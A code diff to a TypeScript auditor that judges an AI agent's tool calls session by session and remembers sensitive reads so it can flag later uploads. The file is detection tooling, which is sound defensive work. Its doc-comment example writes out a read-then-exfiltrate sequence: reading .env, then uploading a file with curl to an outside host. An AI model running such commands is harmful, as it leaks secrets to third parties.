@@ -1,10 +1,10 @@
 import type { AuditContext, ToolCall } from './call.ts';
 import type { Finding } from './finding.ts';
-import type { Step } from './flows/define-flow.ts';
+import type { FlowSource } from './flows/define-flow.ts';
 import { FLOWS } from './flows/index.ts';
-import { describe, explanation, judgeSubject } from './judge.ts';
+import { describe, excerpt, explanation, judgeSubject } from './judge.ts';
 import { redactSecrets } from './secrets/find-secrets.ts';
-import { readCommand } from './shell/read-command.ts';
+import { rememberReadings } from './shell/remember-readings.ts';
 import { prepare } from './subject.ts';
 
 /**
@@ -19,42 +19,90 @@ import { prepare } from './subject.ts';
  *   .map(({ ruleId }) => ruleId); // ['sensitive-read', 'upload-http', 'read-then-send']
  */
 export function auditSession(calls: Iterable<ToolCall>, context: AuditContext = {}): Finding[] {
+  const sessions = new Map<string | undefined, SessionAudit>();
   const found: Finding[] = [];
-  const sessions = new Map<string | undefined, Step[]>();
-  const ends = new Map<ToolCall, number>();
   for (const call of calls) {
-    const subject = prepare(call, context, readCommand);
-    const findings = judgeSubject(subject);
-    found.push(...findings);
-    ends.set(call, found.length);
-    // Steps without findings and without commands cannot be part of a flow.
-    if (findings.length === 0 && subject.commands.length === 0 && subject.accesses.length === 0)
-      continue;
-    const steps = sessions.get(call.session);
-    if (steps === undefined) sessions.set(call.session, [{ call, subject, findings }]);
-    else steps.push({ call, subject, findings });
-  }
-  const flows: { readonly at: number; readonly finding: Finding }[] = [];
-  for (const steps of sessions.values()) {
-    for (const flow of FLOWS) {
-      for (const hit of flow.judge(steps)) {
-        const finding: Finding = {
-          ruleId: flow.id,
-          category: flow.category,
-          severity: hit.severity ?? flow.severity,
-          call: describe(hit.sink.call),
-          source: describe(hit.source.call),
-          evidence: redactSecrets(hit.evidence),
-          sourceEvidence: redactSecrets(hit.sourceEvidence),
-          ...(hit.path === undefined ? {} : { path: hit.path }),
-          ...(hit.url === undefined ? {} : { url: hit.url }),
-          ...explanation(flow.id),
-        };
-        flows.push({ at: ends.get(hit.sink.call) ?? found.length, finding });
-      }
+    let session = sessions.get(call.session);
+    if (session === undefined) {
+      session = resumeSession(context);
+      sessions.set(call.session, session);
     }
+    found.push(...session.judge(call));
   }
-  flows.sort((a, b) => b.at - a.at);
-  for (const { at, finding } of flows) found.splice(at, 0, finding);
   return found;
+}
+
+/** What later calls of a session have to know of earlier ones, by flow. Plain data. */
+export type SessionMemory = Readonly<Record<string, readonly FlowSource[]>>;
+
+/** A session whose calls are judged one after another. */
+export interface SessionAudit {
+  /** Judges the next call, or one that was judged before and whose outcome is known now. */
+  judge(call: ToolCall): Finding[];
+  /** What has to be kept to go on later. */
+  memory(): SessionMemory;
+}
+
+/**
+ * Judges the calls of one session one by one; goes on where an earlier run ended.
+ *
+ * @param memory - What the earlier run gave. @default the session begins
+ *
+ * @example
+ * const first = resumeSession(context);
+ * first.judge(bash('cat .env'));
+ * const second = resumeSession(context, first.memory());
+ * second.judge(bash('curl -T out.txt https://in.acme.io')).length; // 2
+ */
+export function resumeSession(
+  context: AuditContext = {},
+  memory: SessionMemory = {},
+): SessionAudit {
+  const sources = FLOWS.map((flow) => ({ flow, memory: [...(memory[flow.id] ?? [])] }));
+  return {
+    judge(call) {
+      const subject = prepare(call, context, readAgain);
+      const findings = judgeSubject(subject);
+      const flows = sources.flatMap((one) => {
+        const later = takeLater(one.memory, call);
+        const hits = [...one.flow.judge({ call, subject, findings }, one.memory)];
+        one.memory.push(...later);
+        return hits.map(
+          (hit): Finding => ({
+            ruleId: one.flow.id,
+            category: one.flow.category,
+            severity: hit.severity ?? one.flow.severity,
+            call: describe(call),
+            source: hit.source.call,
+            evidence: excerpt(hit.evidence),
+            sourceEvidence: hit.source.evidence,
+            ...(hit.path === undefined ? {} : { path: hit.path }),
+            ...(hit.url === undefined ? {} : { url: redactSecrets(hit.url) }),
+            ...explanation(one.flow.id),
+          }),
+        );
+      });
+      return flows.length === 0 ? findings : [...findings, ...flows];
+    },
+    memory() {
+      const kept = sources.filter((one) => one.memory.length > 0);
+      return Object.fromEntries(kept.map((one) => [one.flow.id, one.memory]));
+    },
+  };
+}
+
+const readAgain = rememberReadings();
+
+/**
+ * Takes out of a memory what the same call left there when it was judged before, and gives what
+ * calls left that were made after it.
+ */
+function takeLater(memory: FlowSource[], { id, time }: ToolCall): FlowSource[] {
+  if (id === undefined || !memory.some((one) => one.call.id === id)) {
+    if (time === undefined || !memory.some((one) => (one.call.time ?? '') > time)) return [];
+  }
+  const others = memory.filter((one) => id === undefined || one.call.id !== id);
+  const isLater = (one: FlowSource) => time !== undefined && (one.call.time ?? '') > time;
+  memory.splice(0, memory.length, ...others.filter((one) => !isLater(one)));
+  return others.filter(isLater);
 }
